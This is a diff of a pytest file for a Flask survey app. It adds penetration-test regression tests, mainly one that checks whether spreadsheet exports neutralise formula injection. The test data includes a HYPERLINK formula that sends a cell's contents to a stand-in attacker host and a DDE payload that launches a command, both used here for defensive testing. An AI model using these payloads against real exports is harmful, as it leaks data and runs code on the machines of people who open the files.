@@ -1,10 +1,117 @@
-"""Security headers on every response, without overriding a view's own choice."""
+"""The findings of a penetration test, one test each, over the real app.
 
+Also: security headers on every response, without overriding a view's own
+choice.
+"""
+
+import csv
+import io
+import re
+
+import pytest
 from flask import make_response
+from werkzeug.datastructures import MultiDict
 
+from sprintlab import db as store
+from sprintlab.accounts import add_user
+from sprintlab.cli import cli
+from sprintlab.fieldwork import participation
 from sprintlab.web.security import CSP
+from tests.bot import Bot, forms, withdrawal_code
+from tests.conftest import ROOT
+
+PASSWORD = "lang-genoeg-1"
+TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
 
 
+def add_account(app, name="onderzoeker", role="researcher", password=PASSWORD):
+    db = store.open_db(app.config["DATABASE"])
+    add_user(db, name, password, role)
+    db.close()
+
+
+def log_in(client, name="onderzoeker", password=PASSWORD, **environ):
+    page = client.get("/login", environ_base=environ).get_data(as_text=True)
+    data = {"csrf_token": TOKEN.search(page)[1], "name": name, "password": password}
+    return client.post("/login", data=data, environ_base=environ)
+
+
+def rows(app, sql, params=()):
+    db = store.open_db(app.config["DATABASE"])
+    try:
+        return db.execute(sql, params).fetchall()
+    finally:
+        db.close()
+
+
+def answer_in_free_text(app, content, texts, study_id="sprint-sms"):
+    """One participant per text, each answering the first message with it."""
+    db = store.open_db(app.config["DATABASE"])
+    study = content.study(study_id)
+    for text in texts:
+        person = participation.start_participant(db, content, study, "nl")
+        form = {f"q-{q.id}": "4" for q in study.rated_questions if q.type == "likert7"}
+        form["q-change"] = text
+        assert participation.submit_message(db, person, study, 0, MultiDict(form))
+    db.close()
+
+
+def take_part(client, study_id, text, seed=0, kiosk=False):
+    """Walk the real pages as one participant writing TEXT; the thanks page."""
+    bot = Bot(client, study_id, seed=seed)
+    response = bot.consent(kiosk=kiosk)
+    while True:
+        location = response.headers["Location"]
+        response = client.get(location)
+        if response.status_code in (302, 303):
+            continue
+        html = response.get_data(as_text=True)
+        if location.endswith("/thanks"):
+            return html
+        _, data = bot.answers_for(html, dont_know=0, text=text)
+        response = client.post(location, data=data)
+        assert response.status_code == 303, response.status_code
+
+
+# --- 1. formula injection ---------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik hier")'
+FORMULAS = [FORMULA, "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"]
+
+
+def test_formulas_are_inert_in_every_spreadsheet_export_and_kept_in_json(
+    app, client, content, runner, tmp_path
+):
+    take_part(client, "sprint-sms", FORMULA)
+    answer_in_free_text(app, content, FORMULAS[1:])
+    add_account(app)
+    log_in(client)
+    url = "/research/sprint-sms/export"
+    long = list(csv.DictReader(io.StringIO(client.get(f"{url}.csv").text)))
+    texts = {r["text"] for r in long if r["question"] == "change"}
+    assert texts == {"'" + formula for formula in FORMULAS}
+    numbers = {r["value"] for r in long if r["question"] != "change"}
+    assert numbers <= set("01234567") | {"NA"}  # numbers stay numbers
+    kept = {r["text"] for r in client.get(f"{url}.json").json if r["text"]}
+    assert set(FORMULAS) <= kept
+    import pyreadstat
+
+    sav = tmp_path / "s.sav"
+    sav.write_bytes(client.get(f"{url}.sav").data)
+    frame, _ = pyreadstat.read_sav(str(sav))
+    assert set(frame["change"]) - {""} == {"'" + formula for formula in FORMULAS}
+    wide = tmp_path / "wide.csv"
+    result = runner.invoke(
+        cli,
+        ["export", "sprint-sms", "--db", app.config["DATABASE"], "--format",
+         "wide-csv", "--out", str(wide), "--content", str(ROOT)],
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    written = list(csv.DictReader(wide.open(encoding="utf-8")))
+    assert {r["change"] for r in written} - {"NA"} == {"'" + f for f in FORMULAS}
+
+
+# --- headers on every response ---------------------------------------------
 def test_every_response_gets_the_headers(client):
     response = client.get("/s/sprint-sms")
     assert response.headers["Content-Security-Policy"] == CSP
